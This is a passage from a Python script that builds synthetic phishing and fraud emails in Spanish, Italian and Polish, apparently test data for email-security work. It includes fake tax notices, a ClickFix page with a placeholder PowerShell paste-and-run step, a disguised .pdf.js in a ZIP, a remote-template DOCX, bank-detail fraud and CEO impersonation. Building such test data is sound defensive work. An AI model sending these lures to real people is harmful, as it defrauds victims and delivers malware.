              pre=[("DKIM-Signature", dkim("yandex.ru", "mail", seed, when))],
              msgid="<%s@mail.yandex.ru>" % M.digits(seed, 18), extra=[("X-Mailer", "Yandex Mail")])

# ------------------------------------------------------------------------------------------ Spanish


def a21():
    seed = "a21"
    when = M.dt(30, 9, 2, 40, "ES")
    n, a = who("l.fernandez")
    cif = M.es_cif("B", "8734519")
    link = "https://drive.google.com/uc?export=download&id=1xR7kPq" + M.alnum(seed, 26)
    html = html_doc("""
<table width="640" style="font-family:Arial,sans-serif;font-size:13px;border:1px solid #ccc">
<tr><td style="background:#a50f2d;color:#fff;padding:14px 18px;font-size:17px"><b>Agencia Tributaria</b> &middot; Sede Electrónica</td></tr>
<tr><td style="padding:18px">
<p>Estimado/a contribuyente:</p>
<p>Le informamos de que tiene a su disposición una notificación electrónica en la Dirección Electrónica Habilitada única (DEHú) relativa a la entidad <b>EXAMPLE GROUP IBERIA S.L.</b> (NIF %s).</p>
<table cellpadding="4" style="font-size:13px">
<tr><td><b>Asunto:</b></td><td>Propuesta de liquidación provisional y trámite de audiencia – IVA 3T 2026</td></tr>
<tr><td><b>Referencia:</b></td><td>2026GRC48811X</td></tr>
<tr><td><b>Importe:</b></td><td>4.318,27 EUR</td></tr>
<tr><td><b>Plazo:</b></td><td>10 días hábiles</td></tr></table>
<p>Transcurrido el plazo sin acceder al contenido, la notificación se entenderá practicada a todos los efectos (art. 43 de la Ley 39/2015).</p>
<p><a href="%s" style="color:#a50f2d;font-weight:bold">Descargar notificación (PDF)</a></p>
<p style="font-size:11px;color:#666">Este mensaje se ha generado automáticamente. Por favor, no responda a este correo.</p>
</td></tr></table>""" % (cif, link.replace("&", "&amp;")), "Agencia Tributaria", lang="es", cs="iso-8859-1")
    root = M.text(html, "html", "iso-8859-1", "quoted-printable")
    auth = authres(spf=("pass", "notificaciones@agenciatributaria-notifica.es", "135.181.54.222"), dkim_=None,
                   dmarc=("none", "agenciatributaria-notifica.es", "NONE"), seed=seed)
    return mk(folder=F, nn=21, lang="es", short="aeat-notificacion", charset="iso-8859-1",
              desc="Tax-agency e-notification lure from a look-alike domain with a direct-download link on a legitimate file-sharing service (malware delivery).",
              when=when, frm=M.addr("Agencia Tributaria", "notificaciones@agenciatributaria-notifica.es"), to=M.addr(n, a, "iso-8859-1", "Q"),
              subject="Notificación electrónica: Procedimiento sancionador – Ref. 2026GRC48811X", subj_cs="iso-8859-1",
              subj_enc="Q", root=root, mail_from="notificaciones@agenciatributaria-notifica.es",
              helo="mail.agenciatributaria-notifica.es", rdns="static.222.54.181.135.clients.your-server.de",
              ip="135.181.54.222", auth=auth, msgid=msgid_generic(seed, "agenciatributaria-notifica.es", when))


def a22():
    seed = "a22"
    when = M.dt(1, 11, 0, 3, "ES")
    n, a = who("j.martinez")
    unsub = "https://r.sender-sib.com/unsubscribe?t=" + M.alnum(seed, 40)
    trk = "https://r.sender-sib.com/mk/cl/f/" + M.alnum(seed + "c", 60)
    plain = """Estimado Sr. Martínez:

Su empresa todavía puede beneficiarse del programa Kit Digital (financiado por los fondos Next Generation EU) y recibir hasta 12.000 € para digitalizar su negocio.

Como Agente Digitalizador adherido, gestionamos su solicitud sin coste y sin papeleo:
- Sitio web y presencia en internet
- Comercio electrónico
- Gestión de redes sociales
- Ciberseguridad y puesto de trabajo seguro
- Factura electrónica (obligatoria a partir de 2027)

Últimos días para presentar la solicitud. Reserve su bono aquí:
%s

Un cordial saludo,
Departamento de Ayudas
Ayudas Kit Digital Pymes

Ha recibido este correo porque sus datos figuran en fuentes de acceso público (BORME). Si no desea recibir más comunicaciones, puede darse de baja aquí: %s
""" % (trk, unsub)
    html = html_doc("""
<div style="max-width:600px;margin:auto;font-family:Helvetica,Arial;font-size:15px;color:#222">
<div style="background:#003399;color:#fff;padding:20px;text-align:center"><span style="font-size:22px"><b>KIT DIGITAL</b></span><br>Financiado por la Unión Europea – NextGenerationEU</div>
<p>Estimado Sr. Martínez:</p>
<p>Su empresa todavía puede beneficiarse del programa <b>Kit Digital</b> y recibir <b>hasta 12.000 €</b> para digitalizar su negocio.</p>
<p>Como Agente Digitalizador adherido, gestionamos su solicitud <b>sin coste y sin papeleo</b>.</p>
<p style="text-align:center"><a href="%s" style="background:#ffcc00;color:#003399;padding:14px 28px;text-decoration:none;font-weight:bold">RESERVAR MI BONO</a></p>
<p style="font-size:11px;color:#888">Ha recibido este correo porque sus datos figuran en fuentes de acceso público (BORME). <a href="%s">Darse de baja</a></p>
<img src="https://r.sender-sib.com/tr/op/%s" width="1" height="1" alt="">
</div>""" % (trk, unsub, M.alnum(seed + "o", 40)), lang="es")
    root = alt(seed, plain, html, "utf-8", style="b1")
    auth = authres(spf=("pass", "bounces-2291-7741253@sib.ayudas-kitdigital-pymes.es", "77.32.148.54"),
                   dkim_=[("pass", "ayudas-kitdigital-pymes.es", "mail"), ("pass", "sendinblue.com", "mail")],
                   dmarc=("pass", "ayudas-kitdigital-pymes.es", "NONE"), seed=seed)
    return mk(folder=F, nn=22, lang="es", short="kitdigital-bulk", charset="utf-8",
              desc="Unsolicited bulk marketing for EU digitalisation grants, harvested from the public company register and sent through a commercial email platform.",
              when=when, frm=M.addr("Kit Digital - Ayudas 2027", "info@ayudas-kitdigital-pymes.es"), to=M.addr(n, a),
              subject="Últimos días: su empresa puede recibir hasta 12.000 € del Kit Digital", root=root,
              mail_from="bounces-2291-7741253@sib.ayudas-kitdigital-pymes.es", helo="mail77-32-148-54.brevo.com",
              rdns="mail77-32-148-54.brevo.com", ip="77.32.148.54", auth=auth,
              pre=[("DKIM-Signature", dkim("ayudas-kitdigital-pymes.es", "mail", seed, when)),
                   ("DKIM-Signature", dkim("sendinblue.com", "mail", seed + "2", when))],
              msgid="<%s@smtp-relay.mailin.fr>" % M.msgid_uuid_raw(seed),
              extra=[("List-Unsubscribe", "<%s>, <mailto:unsubscribe@sender-sib.com>" % unsub),
                     ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"),
                     ("X-Mailin-Campaign", "7741253"), ("Feedback-ID", "77.32.148.54:2291_-1:2291:Brevo"),
                     ("Precedence", "bulk")])


def a23():
    seed = "a23"
    when = M.dt(2, 16, 48, 19, "ES")
    n, a = who("c.ruiz")
    body = """Hola,

Grupo Transportes Levante S.L. le ha enviado un documento para revisar y firmar electrónicamente.

Documento: Contrato_Servicios_Logisticos_2027.pdf
Remitente: Raúl Ortega (r.ortega@transporteslevante.es)
Fecha límite de firma: 04/12/2026

Por motivos de seguridad el documento se adjunta en formato HTML protegido. Ábralo en su navegador y complete la verificación de seguridad para visualizarlo y firmarlo.

DocuFirma – Firma electrónica avanzada conforme al Reglamento eIDAS
"""
    page = """<!DOCTYPE html>
<html lang="es"><head><meta charset="utf-8"><title>Verificación de seguridad</title>
<style>body{font-family:Segoe UI,Arial;background:#f4f4f4}.box{width:460px;margin:80px auto;background:#fff;border:1px solid #ddd;padding:28px}
.chk{border:1px solid #ccc;padding:14px;display:flex;align-items:center}.steps{display:none;margin-top:18px;background:#fffbe6;border:1px solid #f0d000;padding:14px}
kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 5px}</style></head>
<body><div class="box">
<h2>Contrato_Servicios_Logisticos_2027.pdf</h2>
<p>Para acceder al documento, confirme que no es un robot.</p>
<div class="chk"><input type="checkbox" id="c" onclick="go()"> &nbsp; No soy un robot <span style="margin-left:auto;font-size:11px;color:#888">reCAPTCHA<br>Privacidad - Términos</span></div>
<div class="steps" id="s"><b>Pasos de verificación</b><ol>
<li>Pulse la tecla <kbd>Windows</kbd> + <kbd>R</kbd></li>
<li>En la ventana de verificación, pulse <kbd>Ctrl</kbd> + <kbd>V</kbd></li>
<li>Pulse <kbd>Intro</kbd> para completar la verificación</li></ol></div>
</div>
<script>
function go(){
  var t = "powershell -w h -nop -c \\"Write-Output 'audit placeholder - harmless test string'\\" # Verificacion ID: 7741-2 - No soy un robot";
  navigator.clipboard.writeText(t);
  document.getElementById('s').style.display='block';
}
</script></body></html>
"""
    root = M.multipart("mixed", [M.text(body, "plain", "windows-1252", "base64"),
                                 M.attachment(page, "text/html", "Contrato_Servicios_Logisticos_2027.html")],
                       bnd(seed, "eq"))
    auth = authres(spf=("pass", "no-reply@docufirma-notificaciones.com", "91.215.85.17"), dkim_=None,
                   dmarc=("none", "docufirma-notificaciones.com", "NONE"), seed=seed)
    return mk(folder=F, nn=23, lang="es", short="clickfix-html", charset="windows-1252",
              desc="E-signature lure with an HTML attachment showing a fake CAPTCHA that copies a command to the clipboard and tells the user to paste it into the Windows Run box (ClickFix; placeholder command).",
              when=when, frm=M.addr("DocuFirma Notificaciones", "no-reply@docufirma-notificaciones.com"),
              to=M.addr(n, a), subject="Documento pendiente de firma: Contrato_Servicios_Logisticos_2027.pdf",
              root=root, mail_from="no-reply@docufirma-notificaciones.com", helo="vps-2b91.docufirma-notificaciones.com",
              rdns=None, ip="91.215.85.17", auth=auth, msgid=msgid_generic(seed, "docufirma-notificaciones.com", when))


def a24():
    seed = "a24"
    when = M.dt(3, 12, 15, 0, "ES")
    n, a = who("l.fernandez")
    acct = M.iban("ES", M.es_bban("0081", "7306", "0001947265"))
    body = """Estimado cliente:

El registro del dominio examplegroup.eu vence el 15/12/2026.

Para evitar la pérdida del dominio y la interrupción de sus servicios de correo electrónico y página web, le rogamos que efectúe el pago de la factura adjunta antes del 08/12/2026.

Servicio: Renovación y posicionamiento en buscadores (Domain SEO Listing) – 3 años
Importe: 349,00 € + IVA (422,29 €)
Transferencia a: {iban} (Banco Sabadell)
Concepto: DOM-2026-55120

Una vez recibido el pago, el servicio se activará automáticamente.

Atentamente,
Departamento de Renovaciones
Registro Europeo de Dominios

Aviso: Registro Europeo de Dominios no es su registrador actual. Este servicio de listado es opcional y no constituye una factura de su proveedor de dominio. Si no desea contratarlo, ignore este mensaje.
""".replace("{iban}", M.iban_fmt(acct))
    pdf = M.pdf([[("h", "REGISTRO EUROPEO DE DOMINIOS"), ("s", "Departamento de Renovaciones"), ("gap", ""),
                  ("b", "FACTURA / AVISO DE RENOVACIÓN  DOM-2026-55120"), "Fecha: 03/12/2026", ("gap", ""),
                  "Cliente: EXAMPLE GROUP", "Dominio: examplegroup.eu", "Vencimiento: 15/12/2026", ("gap", ""),
                  "Domain SEO Listing (3 años)                                349,00 EUR",
                  "IVA 21 %                                                    73,29 EUR",
                  ("b", "TOTAL                                                      422,29 EUR"), ("gap", ""),
                  "Pago por transferencia antes del 08/12/2026:", "IBAN " + M.iban_fmt(acct), "Concepto: DOM-2026-55120",
                  ("gap", ""), ("s", "Este servicio de listado es opcional. No somos su registrador.")]],
                title="DOM-2026-55120", producer="TCPDF 6.6.2", date="D:20261203120901+01'00'")
    root = M.multipart("mixed", [M.text(body, "plain", "iso-8859-15", "base64"),
                                 M.attachment(pdf, "application/pdf", "Factura_DOM-2026-55120.pdf")], bnd(seed, "b1"))
    auth = authres(spf=("pass", "renovaciones@registro-dominios-eu.com", "51.89.204.93"),
                   dkim_=("pass", "registro-dominios-eu.com", "default"),
                   dmarc=("pass", "registro-dominios-eu.com", "NONE"), seed=seed)
    return mk(folder=F, nn=24, lang="es", short="dominio-slamming", charset="iso-8859-15",
              desc="Domain-renewal 'slamming' offer dressed up as a final invoice for the group's .eu domain, with an IBAN and a disclaimer in the small print.",
              when=when, frm=M.addr("Registro Europeo de Dominios", "renovaciones@registro-dominios-eu.com"),
              to=M.addr(n, a, "iso-8859-15"), subject="Aviso final de renovación: examplegroup.eu – Factura DOM-2026-55120",
              subj_cs="iso-8859-15", root=root, mail_from="renovaciones@registro-dominios-eu.com",
              helo="mail.registro-dominios-eu.com", rdns="ns3214775.ip-51-89-204.eu", ip="51.89.204.93", auth=auth,
              pre=[("DKIM-Signature", dkim("registro-dominios-eu.com", "default", seed, when))],
              msgid=msgid_generic(seed, "registro-dominios-eu.com", when))


def a25():
    seed = "a25"
    when = M.dt(29, 14, 51, 33, "NG")
    n, a = who("j.martinez")
    body = """Estimado Sr. Martínez:

Le ruego disculpe la intromisión de este correo. Mi nombre es Lic. Ramón Echeverría Sáez, abogado y albacea testamentario del difunto Sr. Ernesto Martínez Lozano, ingeniero petrolero de nacionalidad española residente en Lomé (Togo), quien falleció junto a su esposa e hija única en un accidente de tráfico en la carretera de Kpalimé.

Mi cliente dejó un depósito de 8.750.000,00 € (ocho millones setecientos cincuenta mil euros) en una entidad bancaria de esta ciudad. Tras varios años de búsqueda infructuosa de familiares, el banco me ha comunicado que, de no presentarse un heredero antes del 31 de diciembre, los fondos serán declarados inactivos y transferidos al Tesoro.

Puesto que usted comparte el apellido de mi difunto cliente, le propongo presentarle como beneficiario legítimo. Toda la documentación legal la prepararé yo, de modo que la operación será 100 % legal y sin riesgo. Proponemos el siguiente reparto: 50 % para usted, 40 % para mí y 10 % para gastos y obras benéficas.

Le ruego absoluta confidencialidad. Si está interesado, respóndame a mi correo privado (echeverria.abogados@consultant.com) indicando:

1. Nombre completo
2. Teléfono móvil / WhatsApp
3. Copia de su DNI o pasaporte

Quedo a la espera de su pronta respuesta.

Atentamente,
Lic. Ramón Echeverría Sáez
Abogado – Despacho Echeverría & Asociados
Lomé, Togo
"""
    root = M.text(body, "plain", "windows-1252", "quoted-printable")
    auth = authres(spf=("pass", "despacho@echeverria-abogados-internacional.com", "102.89.47.210"), dkim_=None,
                   dmarc=("none", "echeverria-abogados-internacional.com", "NONE"), seed=seed)
    return mk(folder=F, nn=25, lang="es", short="herencia-419", charset="windows-1252",
              desc="Advance-fee inheritance scam from a 'lawyer' offering a deceased namesake's fortune, asking for ID and phone via a different reply address.",
              when=when, frm=M.addr("Lic. Ramón Echeverría Sáez", "despacho@echeverria-abogados-internacional.com", "windows-1252", "Q"),
              to=M.addr("", a), reply_to=M.addr("", "echeverria.abogados@consultant.com"),
              subject="Herencia no reclamada – Sr. Martínez – Confidencial", subj_cs="windows-1252", subj_enc="Q",
              root=root, mail_from="despacho@echeverria-abogados-internacional.com",
              helo="webmail.echeverria-abogados-internacional.com", rdns=None, ip="102.89.47.210", auth=auth,
              msgid="<%s@echeverria-abogados-internacional.com>" % M.hexid(seed, 32),
              extra=[("User-Agent", "Roundcube Webmail/1.6.9")])

# ------------------------------------------------------------------------------------------ Italian


def a26():
    seed = "a26"
    when = M.dt(3, 15, 37, 8, "IT")
    n, a = who("m.bianchi")
    link = ("https://ferrettitrasporti-my.sharepoint.com/:f:/g/personal/c_colombo_ferretti-trasporti_it/"
            "EkQ7mZ3xYvBJr2pN4sT8wU0B" + M.alnum(seed, 22) + "?e=" + M.alnum(seed + "e", 6))
    plain = """Buongiorno Marco,

ti condivido la fattura n. 2026/1187 e i DDT relativi alle spedizioni di novembre (tratta Verona – Nürnberg). I file sono troppo pesanti per la posta, li trovi nella cartella condivisa:

%s

Per l'accesso ti verrà chiesto di confermare il tuo account aziendale.

Fammi sapere se riesci ad aprirli, grazie.

Cordiali saluti

Chiara Colombo
Ufficio Traffico
Ferretti Trasporti S.r.l.
Via dell'Industria 27 – 37135 Verona
Tel. +39 045 820 4417 – Cell. +39 347 118 2096
""" % link
    html = html_doc(p2h(plain).replace(link, '<a href="%s">Fattura_2026-1187_DDT_novembre</a>' % link), lang="it",
                    cs="iso-8859-15")
    root = alt(seed, plain, html, "iso-8859-15", style="b1")
    auth = authres(spf=("pass", "c.colombo@ferretti-trasporti.it", "62.149.155.213"),
                   dkim_=("pass", "ferretti-trasporti.it", "a1"), dmarc=("pass", "ferretti-trasporti.it", "NONE"), seed=seed)
    return mk(folder=F, nn=26, lang="it", short="ferretti-compromised", charset="iso-8859-15",
              desc="Message from the Italian haulier's genuinely compromised mailbox (all checks pass) sharing a 'invoice and delivery notes' folder on the correspondent's own cloud tenant that leads to a credential page.",
              when=when, frm=M.addr("Chiara Colombo", "c.colombo@ferretti-trasporti.it"), to=M.addr(n, a),
              subject="Fattura n. 2026/1187 e DDT spedizioni novembre – documenti condivisi", subj_cs="iso-8859-15",
              subj_enc="Q", root=root, mail_from="c.colombo@ferretti-trasporti.it", helo="smtpdh13-1.aruba.it",
              rdns="smtpdh13-1.aruba.it", ip="62.149.155.213", auth=auth,
              hops=[hop("webmail.aruba.it ([102.89.33.14])", "Aruba Outgoing Smtp", when, "ESMTPSA", "3nZx" + M.alnum(seed, 16))],
              pre=[("DKIM-Signature", dkim("ferretti-trasporti.it", "a1", seed, when))],
              msgid="<%s@ferretti-trasporti.it>" % M.hexid(seed, 32),
              extra=[("User-Agent", "Aruba Webmail 2.8.4"), ("X-Sender-IP", "102.89.33.14")])


def a27():
    seed = "a27"
    when = M.dt(30, 8, 26, 11, "IT")
    n, a = who("f.ricci")
    piva = M.it_piva("0941287096")
    body = """Gentile Contribuente,

a seguito del controllo automatizzato delle dichiarazioni (art. 36-bis del DPR n. 600/1973 e art. 54-bis del DPR n. 633/1972) relative al periodo d'imposta 2025 sono emerse irregolarità a carico di EXAMPLE GROUP ITALIA S.R.L. (P.IVA %s).

Importo complessivo dovuto: 2.947,35 € (imposta, interessi e sanzioni ridotte).

La comunicazione completa è allegata in formato protetto. Per aprire l'archivio utilizzare la password: AE2026

Entro 30 giorni dal ricevimento è possibile fornire chiarimenti o versare le somme con la sanzione ridotta. Decorso tale termine, le somme saranno iscritte a ruolo.

Agenzia delle Entrate
Direzione Provinciale II di Milano – Ufficio Controlli
""" % piva
    js = b"// PLACEHOLDER - harmless test content standing in for a script downloader. Not functional.\r\nvar note = 'audit test sample';\r\n"
    z = M.zip_encrypted([("Comunicazione_0124587_2026.pdf.js", js)], "AE2026", seed, date_time=(2026, 11, 30, 8, 1, 0))
    root = M.multipart("mixed", [M.text(body, "plain", "iso-8859-1", "base64"),
                                 M.attachment(z, "application/zip", "Comunicazione_0124587_2026.zip")], bnd(seed, "eq"))
    auth = authres(spf=("pass", "comunicazioni@agenziaentrate-avvisi.it", "217.61.12.40"), dkim_=None,
                   dmarc=("none", "agenziaentrate-avvisi.it", "NONE"), seed=seed)
    return mk(folder=F, nn=27, lang="it", short="agenzia-entrate-zip", charset="iso-8859-1",
              desc="Tax-agency irregularity notice from a look-alike domain carrying a password-protected ZIP (password in the text) with a script file named like a PDF (placeholder).",
              when=when, frm=M.addr("Agenzia delle Entrate", "comunicazioni@agenziaentrate-avvisi.it"), to=M.addr(n, a),
              subject="Avviso di irregolarità – Comunicazione n. 0124587/2026", subj_cs="iso-8859-1", subj_enc="Q",
              root=root, mail_from="comunicazioni@agenziaentrate-avvisi.it", helo="mail.agenziaentrate-avvisi.it",
              rdns="host40-12-61-217.serverdedicati.aruba.it", ip="217.61.12.40", auth=auth,
              msgid=msgid_generic(seed, "agenziaentrate-avvisi.it", when))


def a28():
    seed = "a28"
    when = M.dt(1, 5, 44, 52, "IT")
    n, a = who("g.romano")
    link = "https://aruba-it.rinnovo-servizi.com/areaclienti/rinnovo?dom=examplegroup.eu&ref=AR-88412"
    html = html_doc("""
<div style="max-width:600px;margin:auto;font-family:Arial,sans-serif;font-size:14px;color:#333">
<div style="background:#ff6600;padding:16px 20px;color:#fff;font-size:22px;font-weight:bold">Aruba.it</div>
<div style="padding:22px;border:1px solid #e5e5e5">
<p>Gentile Cliente,</p>
<p>il pagamento automatico per il rinnovo del dominio <b>examplegroup.eu</b> non è andato a buon fine.</p>
<table cellpadding="5" style="background:#f7f7f7;width:100%%"><tr><td>Servizio:</td><td>Dominio + Hosting Email</td></tr>
<tr><td>Scadenza:</td><td><b style="color:#c00">03/12/2026</b></td></tr><tr><td>Importo:</td><td>4,99 € + IVA</td></tr></table>
<p>Per evitare la sospensione del servizio di posta elettronica e la perdita del dominio, rinnova entro 48 ore:</p>
<p style="text-align:center"><a href="%s" style="background:#ff6600;color:#fff;padding:12px 32px;text-decoration:none;font-weight:bold">RINNOVA ORA</a></p>
<p>Cordiali saluti,<br>Il Team Aruba</p>
</div>
<p style="font-size:10px;color:#999">Aruba S.p.A. – Via San Clemente 53 – 24036 Ponte San Pietro (BG) – P.IVA 01573850516</p>
</div>""" % link.replace("&", "&amp;"), "Aruba.it", lang="it", cs="windows-1252")
    root = M.text(html, "html", "windows-1252", "quoted-printable")
    auth = authres(spf=("softfail", "noreply@aruba-rinnovo-servizi.com", "23.94.214.8"), dkim_=None,
                   dmarc=("none", "aruba-rinnovo-servizi.com", "NONE"), seed=seed)
    return mk(folder=F, nn=28, lang="it", short="aruba-dominio", charset="windows-1252",
              desc="HTML-only hosting-provider brand phish claiming the company domain renewal failed, asking for a small card payment.",
              when=when, frm=M.addr("Aruba.it", "noreply@aruba-rinnovo-servizi.com"), to=M.addr(n, a),
              subject="Dominio examplegroup.eu: servizio sospeso – rinnova entro 48 ore", subj_cs="windows-1252",
              subj_enc="Q", root=root, mail_from="noreply@aruba-rinnovo-servizi.com", helo="aruba-rinnovo-servizi.com",
              rdns="23-94-214-8-host.colocrossing.com", ip="23.94.214.8", tls=False, auth=auth,
              msgid=msgid_generic(seed, "aruba-rinnovo-servizi.com", when))


def a29():
    seed = "a29"
    when = M.dt(2, 11, 9, 14, "IT")
    n, a = who("f.ricci")
    piva = M.it_piva("0941287096")
    body = """Si notifica lo scarto del file IT%s_A7K2Q.xml trasmesso al Sistema di Interscambio.

Identificativo SdI: 19283746501
Codice errore: 00305 – IdFiscaleIVA del cessionario/committente non valido
Data ricezione: 02/12/2026

La fattura scartata si considera non emessa. Il dettaglio della notifica e le istruzioni per la correzione sono riportati nel documento allegato (documento protetto).

Sistema di Interscambio – FatturaPA
Messaggio generato automaticamente, non rispondere.
""" % piva
    doc = M.docx([("c", "DOCUMENTO PROTETTO"),
                  "Questo documento è stato creato in una versione precedente di Microsoft Office Word.",
                  "Per visualizzare il contenuto fare clic su «Abilita modifica» nella barra gialla e successivamente su «Abilita contenuto».",
                  ("i", "Notifica di scarto SdI 19283746501 – codice 00305")],
                 title="Notifica di scarto", author="SdI", company="Agenzia delle Entrate",
                 remote_template="http://sdi-fatturapa-notifiche.it/modelli/NS_00305.dotm")
    root = M.multipart("mixed", [M.text(body, "plain", "utf-8", "base64"),
                                 M.attachment(doc, "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                                              "Notifica_scarto_A7K2Q.docx")], bnd(seed, "b1"))
    auth = authres(spf=("neutral", "notifiche@sdi-fatturapa-notifiche.it", "5.181.156.73"), dkim_=None,
                   dmarc=("none", "sdi-fatturapa-notifiche.it", "NONE"), seed=seed)
    return mk(folder=F, nn=29, lang="it", short="sdi-docx-template", charset="utf-8",
              desc="E-invoice rejection notice imitating the Italian SdI with a DOCX that loads a remote template and tells the user to enable editing and content.",
              when=when, frm=M.addr("Sistema di Interscambio (SdI)", "notifiche@sdi-fatturapa-notifiche.it"),
              to=M.addr(n, a), subject="Notifica di scarto – Fattura IT%s_A7K2Q" % piva, root=root,
              mail_from="notifiche@sdi-fatturapa-notifiche.it", helo="mail.sdi-fatturapa-notifiche.it", rdns=None,
              ip="5.181.156.73", auth=auth, msgid=msgid_generic(seed, "sdi-fatturapa-notifiche.it", when))


def a30():
    seed = "a30"
    when = M.dt(4, 9, 12, 40, "DE")
    n, a = who("g.romano")
    plain = """Ciao Giulia,

sei disponibile? Ho bisogno del tuo aiuto per una questione urgente e riservata legata a un'acquisizione in corso in Italia.

Mi mandi il tuo numero di cellulare? Ti aggiungo a un gruppo WhatsApp con il nostro consulente legale, l'avvocato De Santis, che ti darà le istruzioni.

Per motivi di riservatezza ti chiedo di non parlarne con nessuno in ufficio finché l'operazione non sarà annunciata ufficialmente.

Grazie
Thomas Brandt
CEO – Example Group

Inviato da Outlook per iOS
"""
    html = html_doc('<div dir="ltr">' + p2h(plain) + "</div>", lang="it", cs="iso-8859-1")
    root = alt(seed, plain, html, "iso-8859-1")
    auth = authres(spf=("pass", "t.brandt.examplegroup@outlook.com", "40.92.66.18"),
                   dkim_=("pass", "outlook.com", "selector1"), dmarc=("pass", "outlook.com", "NONE"), seed=seed)
    return mk(folder=F, nn=30, lang="it", short="ceo-whatsapp", charset="iso-8859-1",
              desc="CEO impersonation from a personal Outlook.com account asking the Italian office manager for her mobile number to move a secret 'acquisition' to WhatsApp.",
              when=when, frm=M.addr("Thomas Brandt", "t.brandt.examplegroup@outlook.com"), to=M.addr(n, a),
              subject="Richiesta riservata", root=root, mail_from="t.brandt.examplegroup@outlook.com",
              helo="EUR02-VI1-obe.outbound.protection.outlook.com",
              rdns="mail-vi1eur02olkn2018.outbound.protection.outlook.com", ip="40.92.66.18", auth=auth,
              hops=olk_hops(when, seed, "PA4PR08MB7089.eurprd08.prod.outlook.com"),
              pre=[("DKIM-Signature", dkim("outlook.com", "selector1", seed, when))],
              msgid=msgid_outlook(seed, "eurprd08"), extra=[("Content-Language", "it-IT"), ("X-Priority", "1")])

# ------------------------------------------------------------------------------------------ Polish


def a31():
    seed = "a31"
    when = M.dt(1, 12, 33, 7, "PL")
    n, a = who("k.nowak")
    fraud = M.iban("PL", M.pl_bban("114", "0200", "4000370277415321"))
    body = """Szanowni Państwo,

uprzejmie informujemy, że w związku z przeniesieniem obsługi bankowej naszej spółki z dniem 01.12.2026 r. zmianie uległ numer rachunku bankowego Partner Logistik Sp. z o.o.

Nowy numer rachunku (PLN):
{iban}
Bank: mBank S.A.

Rachunek został zgłoszony do wykazu podatników VAT (biała lista) – aktualizacja w wykazie nastąpi w ciągu 3 dni roboczych. Płatności za faktury FV/2026/11/0389 oraz FV/2026/11/0402 prosimy kierować już na nowy rachunek, bez stosowania mechanizmu podzielonej płatności.

Poprzedni rachunek w Santander Bank Polska zostanie zamknięty z końcem roku. W załączeniu przesyłamy oficjalne pismo podpisane przez Zarząd.

Prosimy o potwierdzenie aktualizacji danych w Państwa systemie w odpowiedzi na tę wiadomość.

Z poważaniem

Magdalena Kaczmarek
Dział Księgowości
Partner Logistik Sp. z o.o.
ul. Głogowska 218, 60-104 Poznań
tel. +48 61 843 22 10
""".replace("{iban}", M.iban_fmt(fraud))
    pdf = M.pdf([[("h", "Partner Logistik Sp. z o.o."), ("s", "ul. Głogowska 218, 60-104 Poznań · NIP " + M.pl_nip("779241553")),
                  ("gap", ""), ("r", "Poznań, 30.11.2026"), ("gap", ""), "Example Group Sp. z o.o.", "Dział Księgowości",
                  ("gap", ""), ("b", "Zawiadomienie o zmianie rachunku bankowego"), ("gap", ""),
                  "Niniejszym informujemy, że od dnia 01.12.2026 r. wszelkie płatności na rzecz",
                  "Partner Logistik Sp. z o.o. należy kierować na rachunek:", ("gap", ""),
                  ("b", M.iban_fmt(fraud) + "  (mBank S.A.)"), ("gap", ""),
                  "Dotychczasowy rachunek w Santander Bank Polska S.A. zostanie zamknięty.", ("gap", ""),
                  "Z poważaniem", "Zarząd Partner Logistik Sp. z o.o.", "Prezes Zarządu: Andrzej Wilk"]],
                title="Zawiadomienie", producer="Microsoft: Print To PDF", date="D:20261130154410+01'00'")
    root = M.multipart("mixed", [M.text(body, "plain", "iso-8859-2", "quoted-printable"),
                                 M.attachment(pdf, "application/pdf", "Pismo_zmiana_rachunku_Partner_Logistik.pdf")],
                       bnd(seed, "nextpart"))
    auth = authres(spf=("pass", "ksiegowosc@partner-logistlk.pl", "194.15.112.54"),
                   dkim_=("pass", "partner-logistlk.pl", "default"), dmarc=("pass", "partner-logistlk.pl", "NONE"), seed=seed)
    return mk(folder=F, nn=31, lang="pl", short="lookalike-rachunek", charset="iso-8859-2",
              desc="Bank-account change fraud from a one-letter look-alike of the Polish partner's domain, asking to skip split payment and citing the VAT whitelist, with a forged board letter.",
              when=when, frm=M.addr("Partner Logistik – Księgowość", "ksiegowosc@partner-logistlk.pl", "iso-8859-2", "Q"),
              to=M.addr(n, a), subject="Zmiana rachunku bankowego Partner Logistik Sp. z o.o. – prosimy o aktualizację",
              subj_cs="iso-8859-2", subj_enc="Q", root=root, mail_from="ksiegowosc@partner-logistlk.pl",
              helo="mail.partner-logistlk.pl", rdns="mail.partner-logistlk.pl", ip="194.15.112.54", auth=auth,
              pre=[("DKIM-Signature", dkim("partner-logistlk.pl", "default", seed, when))],
              msgid="<000001db%s$%s$%s@partner-logistlk.pl>" % (M.hexid(seed, 4), M.hexid(seed + "x", 8), M.hexid(seed + "y", 8)),
              extra=[("X-Mailer", "Microsoft Outlook 16.0"), ("Content-Language", "pl")])


def a32():
    seed = "a32"
    when = M.dt(30, 18, 3, 22, "PL")
    n, a = who("p.wisniewski")
    link = "https://inpost-pl.paczka-doplata.com/pay?n=693402158841227011430&s=" + M.hexid(seed, 8)
    html = html_doc("""
<div style="max-width:560px;margin:auto;font-family:Montserrat,Arial,sans-serif;font-size:15px;color:#1d1d1b">
<div style="background:#ffcd00;padding:18px 22px;font-size:26px;font-weight:bold">InPost</div>
<div style="padding:22px;background:#ffffff;border:1px solid #eee">
<p>Dzień dobry,</p>
<p>Twoja przesyłka <b>693402158841227011430</b> nie mogła zostać umieszczona w Paczkomacie z powodu niedopłaty za gabaryt (różnica wagi).</p>
<p>Aby odebrać paczkę, uiść dopłatę <b>1,99 zł</b> za pomocą BLIK lub karty płatniczej do <b>02.12.2026</b>. Po tym terminie przesyłka zostanie zwrócona do nadawcy.</p>
<p style="text-align:center"><a href="%s" style="background:#1d1d1b;color:#ffcd00;padding:13px 34px;text-decoration:none;font-weight:bold">Opłać i odbierz</a></p>
<p>Pozdrawiamy,<br>Zespół InPost</p></div>
<p style="font-size:10px;color:#888">InPost Sp. z o.o., ul. Pana Tadeusza 4, 30-727 Kraków. Wiadomość wygenerowana automatycznie.</p>
</div>""" % link.replace("&", "&amp;"), "InPost", lang="pl", cs="windows-1250")
    root = M.text(html, "html", "windows-1250", "base64")
    auth = authres(spf=("pass", "powiadomienia@inpost-paczka24.pl", "103.147.185.22"), dkim_=None,
